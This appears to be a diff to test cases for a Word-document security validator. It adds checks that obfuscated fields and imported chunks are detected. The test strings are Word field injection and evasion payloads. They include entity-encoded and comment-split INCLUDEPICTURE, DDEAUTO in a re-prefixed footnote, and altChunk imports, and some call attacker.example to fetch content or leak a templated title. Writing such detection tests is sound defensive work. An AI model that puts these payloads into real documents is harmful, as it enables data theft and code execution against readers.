@@ -46,6 +46,20 @@ def _in_body(xml: str) -> Callable[[dict[str, bytes]], None]:
     return change
 
 
+def _in_footnote(xml: str) -> Callable[[dict[str, bytes]], None]:
+    """A footnotes part under another prefix for Word's namespace (Word reads the namespace, not the prefix)."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+        body = xml.replace("<w:", "<x:").replace("</w:", "</x:").replace(" w:", " x:")
+        parts["word/footnotes.xml"] = (
+            f'<?xml version="1.0" encoding="UTF-8"?><x:footnotes xmlns:x="{main}">'
+            f'<x:footnote x:id="1">{body}</x:footnote></x:footnotes>'
+        ).encode()
+
+    return change
+
+
 def _relationship(part: str, relationship: str) -> Callable[[dict[str, bytes]], None]:
     def change(parts: dict[str, bytes]) -> None:
         rels = parts.get(
@@ -93,6 +107,20 @@ PICTURE = (
         (_in_body(_field(" INCLUDE", 'PICTURE "https://attacker.example/{{ title }}" \\d ')), "INCLUDEPICTURE field"),
         (_in_body(_field(" dde ", "x")), "DDE field"),  # Word reads field names in any case
         (_in_body(_field(' LINK Excel.Sheet "c:\\\\book.xlsx" ')), "LINK field"),
+        # ways round a reading of the XML's text that the review found, each read by Word as a field
+        (_in_body(_field('&#73;NCLUDEPICTURE "https://attacker.example/x"')), "INCLUDEPICTURE field"),
+        (_in_body(_field('INCLUDE<!-- -->PICTURE "https://attacker.example/x"')), "INCLUDEPICTURE field"),
+        (_in_body(_field(' INCLUDE "https://attacker.example/x.docx" ')), "INCLUDE field"),
+        (_in_footnote(_field("&#68;DEAUTO c:\\x")), "DDEAUTO field"),
+        (_in_body('<w:altChunk r:id="rId96"/>'), "altChunk"),
+        (
+            _relationship(
+                "word/_rels/document.xml.rels",
+                '<Relationship Id="rId96" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/aFChunk" Target="chunk.htm"/>',
+            ),
+            "imports content from another file",
+        ),
         # made by a tag inside the instruction: only the paper it makes shows it
         (_in_body(_field(' {{ "INCLUDETEXT" }} "https://attacker.example/{{ title }}" ')), "INCLUDETEXT field"),
     ],
